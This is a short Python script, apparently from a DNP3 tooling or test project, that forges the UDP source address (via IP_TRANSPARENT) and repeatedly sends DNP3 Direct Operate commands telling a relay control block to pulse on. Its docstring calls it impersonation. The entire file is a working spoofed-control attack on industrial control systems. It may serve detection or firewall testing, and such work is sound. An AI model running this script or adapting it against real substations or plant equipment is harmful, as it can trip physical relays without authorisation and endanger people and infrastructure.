#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""One who says that it is somebody else: DNP3 direct operates over UDP from an address that is not its own.

    inside.py FROM FROM-PORT TO PORT COUNT
"""
import os
import socket
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "pcap"))
from dnp3_wire import frame, segments

RELAY = "0c01 28 0100 0000 41 01 e8030000 00000000 00"
TRANSPARENT = {socket.AF_INET: (socket.IPPROTO_IP, 19), socket.AF_INET6: (socket.IPPROTO_IPV6, 75)}

source, own, server, port, count = sys.argv[1:]
family = socket.AF_INET6 if ":" in source else socket.AF_INET
with socket.socket(family, socket.SOCK_DGRAM) as s:
    s.setsockopt(*TRANSPARENT[family], 1)
    s.bind((source, int(own)))
    for i in range(int(count)):
        fragment = bytes.fromhex("c%x05" % (i % 16) + RELAY)
        s.sendto(b"".join(frame(0xC4, 10, 1, part) for part in segments(fragment, 0)), (server, int(port)))
        time.sleep(0.02)
